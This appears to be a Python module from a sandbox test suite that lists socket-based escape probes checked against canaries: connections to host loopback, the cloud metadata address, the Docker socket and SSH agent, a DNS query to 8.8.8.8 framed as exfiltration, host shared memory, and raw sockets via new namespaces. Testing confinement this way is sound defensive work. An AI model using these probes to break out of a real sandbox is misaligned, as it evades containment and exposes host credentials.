"""Attacks by sockets: the host's servers, and addresses that no rule names."""

import ctypes
import os
import socket

from .target import LIBC, MARK, Missed, canary, checked, in_child, talk

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
MSG_FASTOPEN, IPPROTO_MPTCP = 0x20000000, 262


def tcp(host, port, family=socket.AF_INET, protocol=0):
    return talk(socket.socket(family, socket.SOCK_STREAM, protocol), (host, port), host)


def unix(address):
    return talk(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), address)


def udp(host, port):
    """The canary answers; a resolver of the sandbox's own gives no such answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(2)
        # A well-formed question, since that is how data leaves by DNS.
        sender.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03org\x00\x00\x01\x00\x01",
                      (host, port))
        answer = sender.recv(2000)
    if b"hw-canary" not in answer:
        raise Missed("another server answered")
    return "the canary answered"


def fast_open(host, port):
    """Data in the first packet, without connect(2)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.sendto(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n", MSG_FASTOPEN, (host, port))
        connection.settimeout(4)
        seen = b""
        while b"hw-canary" not in seen:
            data = connection.recv(4096)
            if not data:
                raise Missed("no canary answered: %r" % seen[:120])
            seen += data
    return "the canary answered"


def shared_memory():
    """The host's System V segment, by its key."""
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(checked(LIBC.shmget(int(canary("SHM_KEY")), 0, 0)), None, 0)
    checked(-1 if address == ctypes.c_void_p(-1).value else 0)
    if MARK.encode() not in ctypes.string_at(address, 64):
        raise Missed("another segment")
    return "attached"


def opened(family, kind, protocol=0):
    """Opens a socket, with all rights in a network namespace of its own."""
    def attempt():
        LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNET)
        socket.socket(family, kind, protocol).close()
        return "opened"
    return lambda: in_child(attempt)


def attacks():
    port, lacks = int(canary("PORT")), os.environ.get("HW_CANARY_LACKS", "").split()
    found = {
        "host_loopback": lambda: tcp("127.0.0.1", port),
        "host_loopback_zero": lambda: tcp("0.0.0.0", port),
        "host_loopback_udp": lambda: udp("127.0.0.1", int(canary("UDP_PORT"))),
        "metadata": lambda: tcp("169.254.169.254", 80),
        "unlisted_host": lambda: tcp("unlisted.test", 443),
        "unlisted_host_fast_open": lambda: fast_open("unlisted.test", 443),
        "foreign_resolver": lambda: udp("8.8.8.8", 53),
        "foreign_resolver_tcp": lambda: tcp("8.8.8.8", 53),
        "docker_socket": lambda: unix(canary("DOCKER")),
        "session_bus": lambda: unix(canary("BUS")),
        "ssh_agent": lambda: unix(canary("AGENT")),
        "abstract_socket": lambda: unix("\0" + canary("ABSTRACT")),
        "shared_memory": shared_memory,
        "raw_socket": opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packet_socket": opened(socket.AF_PACKET, socket.SOCK_RAW),
    }
    if "ipv6" not in lacks:
        found["host_loopback6"] = lambda: tcp("::1", int(canary("PORT6")), socket.AF_INET6)
        found["host_loopback_mapped"] = lambda: tcp("::ffff:127.0.0.1", port, socket.AF_INET6)
    if "mptcp" not in lacks:
        found["unlisted_host_mptcp"] = lambda: tcp("unlisted.test", 443, protocol=IPPROTO_MPTCP)
    if "vsock" not in lacks:
        found["vsock_socket"] = opened(40, socket.SOCK_STREAM)
    if "alg" not in lacks:
        found["alg_socket"] = opened(38, socket.SOCK_SEQPACKET)
    return found
